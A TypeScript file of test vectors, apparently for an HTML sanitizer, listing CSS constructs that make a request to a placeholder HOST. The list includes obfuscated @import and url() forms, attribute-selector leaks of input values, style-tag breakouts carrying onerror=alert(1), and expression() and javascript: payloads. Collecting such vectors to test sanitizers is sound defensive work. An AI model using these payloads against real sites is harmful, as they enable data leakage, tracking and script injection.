import { vectors } from '../vector.ts';

/** Every way in which a style sheet sends a request. */
export const styleVectors = vectors('style', {
  import: '<style>@import "https://HOST/a.css";</style>',
  'import by url, with layer and media':
    '<style>@import url(https://HOST/a.css) layer(x) supports(color:red) screen;</style>',
  'import, escaped': '<style>@\\69 mport "https://HOST/a.css";@IM\\50ORT url("https://HOST/b.css")</style>',
  'import behind a charset': '<style>@charset "utf-8";@import\'https://HOST/a.css\'</style>',
  'import without an end': '<style>@import "https://HOST/a.css"',
  'import in a comment that ends early': '<style>/* */@import "https://HOST/a.css";/* */</style>',
  'import behind html comment': '<style><!-- @import "https://HOST/a.css"; --></style>',
  background: '<p style="background:url(https://HOST/a.png)">x</p>',
  'background, quoted': '<p style="background:URL( \'https://HOST/a.png\' )">x</p>',
  'background, escaped name':
    '<p style="background:\\75\\72\\6c(https://HOST/a.png)">x</p><p style="background:u\\rl(https://HOST/b.png)">x</p>',
  'background, escaped address': '<p style="background:url(\\68ttps://HOST/a.png)">x</p>',
  'background, comments between':
    '<p style="background:url/**/(https://HOST/a.png)">x</p><p style="background:u/**/rl(https://HOST/b.png)">x</p>',
  'background, property escaped': '<p style="b\\61 ckground:url(https://HOST/a.png)">x</p>',
  'background, many': '<p style="background:url(),url(),url(https://HOST/a.png)">x</p>',
  'background, important': '<p style="background-image:url(https://HOST/a.png)!important">x</p>',
  'background without an end': '<p style="background:url(https://HOST/a.png">x</p>',
  'background, bad string before': '<p style="color:\'\n;background:url(https://HOST/a.png)">x</p>',
  'background in a broken rule': '<style>p{color:red;};}p{background:url(https://HOST/a.png)}</style><p>x</p>',
  'background behind a brace in a string': '<style>a{b:"}p{";background:url(https://HOST/a.png)}</style><a>x</a>',
  'background, nested rule': '<style>p{color:red;& b{background:url(https://HOST/a.png)}}</style><p><b>x</b></p>',
  'background under conditions':
    '<style>@media all{@supports(color:red){@layer x{p{background:url(https://HOST/a.png)}}}}</style><p>x</p>',
  'background under container and scope':
    '<style>@container (width>0){p{background:url(https://HOST/a.png)}}@scope(body){p{background:url(https://HOST/b.png)}}</style><p>x</p>',
  'background at start': '<style>@starting-style{p{background:url(https://HOST/a.png)}}</style><p>x</p>',
  'image set':
    '<p style="background:image-set(\'https://HOST/a.png\' 1x)">x</p><p style="background:-webkit-image-set(url(https://HOST/b.png) 1x)">x</p>',
  'image functions':
    '<p style="background:image(\'https://HOST/a.png\')">x</p><p style="background:cross-fade(url(https://HOST/b.png),red)">x</p>',
  'source function':
    '<p style="background:src(\'https://HOST/a.png\')">x</p><style>@import src("https://HOST/b.css");</style>',
  'paint and element':
    '<p style="background:paint(x,url(https://HOST/a.png))">x</p><p style="background:-moz-element(#x),url(https://HOST/b)">x</p>',
  'attribute as address':
    '<p data-x="https://HOST/a.png" title="https://HOST/b.png" style="background:attr(title type(&lt;url&gt;))">x</p><p title="https://HOST/c" style="background:image-set(attr(title))">x</p>',
  'custom property':
    '<style>:root{--x:url(https://HOST/a.png)}p{background:var(--x)}</style><p>x</p><p style="--y:url(https://HOST/b.png);background:var(--y)">x</p>',
  'registered property':
    '<style>@property --x{syntax:"<image>";inherits:true;initial-value:url(https://HOST/a.png)}p{background:var(--x)}</style><p>x</p>',
  'fallback of a property':
    '<p style="background:var(--no,url(https://HOST/a.png))">x</p><p style="background:env(no,url(https://HOST/b.png))">x</p>',
  'conditional value': '<p style="background:if(media(all):url(https://HOST/a.png);else:none)">x</p>',
  'own functions and mixins':
    '<style>@function --f(){result:url(https://HOST/a.png)}p{background:--f()}</style><p>x</p>',
  'list style':
    '<ul style="list-style:url(https://HOST/a.png)"><li style="list-style-image:url(https://HOST/b.png)">x</ul>',
  cursor: '<p style="cursor:url(https://HOST/a.png),auto">x</p>',
  content: '<style>p::before{content:url(https://HOST/a.png)}p{content:url(https://HOST/b.png)}</style><p>x</p>',
  'content with a text for it':
    '<style>p::after{content:url(https://HOST/a.png)/"x"}p::marker{content:url(https://HOST/b.png)}</style><p style="display:list-item">x</p>',
  'border image':
    '<p style="border:9px solid;border-image:url(https://HOST/a.png) 9;-webkit-border-image:url(https://HOST/b.png) 9">x</p>',
  'mask and clip':
    '<p style="mask:url(https://HOST/a.svg#x);-webkit-mask-image:url(https://HOST/b.png);clip-path:url(https://HOST/c.svg#x)">x</p>',
  'mask box':
    '<p style="-webkit-mask-box-image:url(https://HOST/a.png);-webkit-box-reflect:below 0 url(https://HOST/b.png)">x</p>',
  filter: '<p style="filter:url(https://HOST/a.svg#x);backdrop-filter:url(https://HOST/b.svg#x)">x</p>',
  shape: '<p style="float:left;shape-outside:url(https://HOST/a.png);offset-path:url(https://HOST/b.svg#x)">x</p>',
  'font face': '<style>@font-face{font-family:x;src:url(https://HOST/a.woff2)}p{font-family:x}</style><p>x</p>',
  'font face, local first':
    '<style>@font-face{font-family:x;src:local("no such"),url("//HOST/a.woff2") format("woff2") tech(color-COLRv1)}*{font-family:x}</style><p>x</p>',
  'font shorthand':
    '<style>@font-face{font-family:"x y";src:url(https://HOST/a.woff2)}</style><p style="font:12px \'x y\'">x</p>',
  'counter style':
    '<style>@counter-style x{system:cyclic;symbols:url(https://HOST/a.png);suffix:" "}ul{list-style:x}</style><ul><li>x</ul>',
  'name space and document':
    '<style>@namespace url(https://HOST/a);@document url(https://HOST/b){p{color:red}}@-moz-document url-prefix(){p{background:url(https://HOST/c)}}</style><p>x</p>',
  'page and view transition':
    '<style>@page{background:url(https://HOST/a.png)}@view-transition{navigation:auto}</style>',
  animation:
    '<style>@keyframes x{from{background:url(https://HOST/a.png)}to{list-style:url(https://HOST/b.png)}}p{animation:x 1ms infinite}</style><p>x</p>',
  'leak by selector':
    '<style>input[value^=a]{background:url(https://HOST/a)}a[href^=h]{background:url(https://HOST/b)}</style><input value=abc><a href=https://shop.example>x</a>',
  'leak by hover and focus':
    '<style>p:hover{background:url(https://HOST/a)}a:focus{background:url(https://HOST/b)}a:visited{background:url(https://HOST/c)}p:has(b){background:url(https://HOST/d)}</style><p><b>x</b></p>',
  'leak by media':
    '<style>@media (prefers-color-scheme:dark){p{background:url(https://HOST/a)}}@media print{p{background:url(https://HOST/b)}}</style><p>x</p>',
  'behaviour and bindings':
    '<p style="behavior:url(https://HOST/a.htc);-moz-binding:url(https://HOST/b.xml#x);-ms-behavior:url(https://HOST/c)">x</p>',
  expressions:
    '<p style="width:expression(alert(1));width:e\\78pression(alert(1));background:url(javascript:alert(1))">x</p>',
  'old filters':
    '<p style="filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src=\'https://HOST/a.png\')">x</p>',
  'source map': '<style>p{color:red}/*# sourceMappingURL=https://HOST/a.map */</style>',
  'style that ends early': '<style>p{color:red}</style/><img src=https://HOST/a.png></style>',
  'style with an end in a string':
    '<style>p{font-family:"</style><img src=https://HOST/a.png onerror=alert(1)>"}</style>',
  'style with an escaped end':
    '<style>p{font-family:"\\3c/style\\3e\\3cimg src=x onerror=alert(1)\\3e"}</style><p>x</p>',
  'style in svg':
    '<svg><style>@import "https://HOST/a.css";</style><style>&lt;img src=x onerror=alert(1)></style></svg>',
  'style in an attribute that breaks out':
    '<p style="color:red&quot;><img src=https://HOST/a.png onerror=alert(1)>">x</p>',
  'style with media that breaks out':
    '<style media="all{}p{background:url(https://HOST/a)}@media all">p{color:red}</style><p>x</p>',
  'style with null bytes':
    '<p style="background:u\0rl(https://HOST/a.png)">x</p><style>p{back\0ground:url(https://HOST/b.png)}</style>',
  quirks:
    '<p style="background:url(https://HOST/a.png);*background:url(https://HOST/b.png);_background:url(https://HOST/c.png)">x</p>',
  'speech and page addresses': '<p style="cue:url(https://HOST/a.wav);play-during:url(https://HOST/b.wav)">x</p>',
});
